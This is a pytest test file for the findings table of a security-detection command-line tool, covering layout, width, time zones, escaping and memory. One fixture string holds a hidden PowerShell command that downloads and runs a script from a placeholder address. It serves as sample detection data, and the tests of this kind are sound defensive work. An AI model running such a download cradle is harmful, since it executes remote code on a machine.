import io
import tracemalloc
from datetime import UTC
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from rich.cells import cell_len
from rich.console import Console

from tests.cli.findings import HOSTILE, finding
from tocsin.cli.output.table import TableRenderer
from tocsin.core.entity import Entity
from tocsin.core.finding import Finding
from tocsin.detection.wire import encode

GOLDEN = Path(__file__).parent / "golden"
POWERSHELL = "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')\""


def story(count: int) -> list[Finding]:
    """Give `count` findings of four rules on three hosts, out of order, one without a time."""
    alice = (Entity("host", "WS01.corp.example"), Entity("user", "CORP\\alice"))
    system = (Entity("host", "DC01.corp.example"), Entity("user", "NT AUTHORITY\\SYSTEM"))
    kinds = [
        finding(title="Credential dump by a well-known tool", rule_id="r1", entities=system),
        finding(
            title="PowerShell downloads and runs a script without writing it to disk",
            level="high",
            rule_id="r2",
            matched={"EventID": 1, "Image": "C:\\Windows\\powershell.exe", "CommandLine": POWERSHELL},
            entities=alice,
        ),
        finding(title="Whoami", level="low", rule_id="r3", matched={"Image": "C:\\whoami.exe"}, entities=alice),
        finding(title="Neue Aufgabe 予定", level="informational", rule_id="r4", matched={}, entities=()),
    ]
    findings = []
    for number in range(count):
        kind = kinds[number % 4]
        time = None if number == 6 else f"2026-03-14T{15 - number % 3}:{number % 60:02}:26.535897Z"
        matched = {**kind.matched, "ProcessId": number} if number % 8 < 4 else kind.matched
        findings.append(
            finding(
                title=kind.rule.title,
                level=kind.rule.level,
                rule_id=kind.rule.id,
                time=time,
                matched=matched,
                entities=kind.entities,
                position=number,
            )
        )
    return findings


def table(findings: list[Finding], width: int, *, rows: int = 12, zone: str = "UTC") -> str:
    out = io.StringIO()
    console = Console(file=out, width=width, markup=False, highlight=False, emoji=False, color_system=None)
    renderer = TableRenderer(console, ZoneInfo(zone), zone, rows)
    for one in findings:
        renderer.write(encode(one))
    renderer.finish()
    return out.getvalue()


@pytest.mark.parametrize("width", [80, 110, 160])
@pytest.mark.parametrize(("name", "count"), [("timeline", 9), ("groups", 40)])
def test_the_table_looks_like_this(name: str, count: int, width: int) -> None:
    expected = (GOLDEN / f"{name}_{width}.txt").read_text(encoding="utf-8")
    assert table(story(count), width) == expected


@pytest.mark.parametrize("width", range(60, 201, 20))
@pytest.mark.parametrize("count", [9, 40])
def test_no_line_is_wider_than_the_terminal(width: int, count: int) -> None:
    assert max(map(cell_len, table(story(count), width).splitlines())) <= width


def test_without_findings_nothing_is_printed() -> None:
    assert table([], 80) == ""


def test_times_are_in_the_zone_that_the_head_names() -> None:
    lines = table([finding()], 120, zone="Asia/Tokyo").splitlines()
    assert lines[0].startswith("TIME (Asia/Tokyo)")
    assert lines[1].startswith("2026-03-15 00:09:26")


@pytest.mark.parametrize("count", [1, 60])
@pytest.mark.parametrize("width", [80, 160])
def test_hostile_values_cannot_write_to_the_terminal(count: int, width: int) -> None:
    hostile = finding(
        title=HOSTILE,
        rule_id=HOSTILE,
        matched={HOSTILE: HOSTILE, "CommandLine": HOSTILE, "list": [HOSTILE]},
        entities=(Entity("host", HOSTILE), Entity("user", HOSTILE)),
        source=HOSTILE,
    )
    text = table([hostile] * count, width)
    assert all(line.isprintable() for line in text.splitlines())
    assert "\\x1b[31m" in text


def test_markup_in_values_is_shown_and_not_obeyed() -> None:
    assert "[bold red]x[/]" in table([finding(matched={"CommandLine": "[bold red]x[/]"})], 160)


def test_what_is_kept_does_not_grow_with_the_number_of_findings() -> None:
    renderer = TableRenderer(Console(file=io.StringIO()), UTC, "UTC", 10)
    lines = [encode(one) for one in story(400)]
    for line in lines:
        renderer.write(line)
    tracemalloc.start()
    for _ in range(10):
        for line in lines:
            renderer.write(line)
    kept, _ = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert kept < 400_000


def test_the_gravest_finding_can_be_asked_for() -> None:
    renderer = TableRenderer(Console(file=io.StringIO()), UTC, "UTC", 10)
    assert renderer.gravest() is None
    for one in story(8):
        renderer.write(encode(one))
    gravest = renderer.gravest()
    assert gravest is not None
    assert (gravest.rule_id, gravest.place) == ("r1", "evidence/ws01.evtx#4")
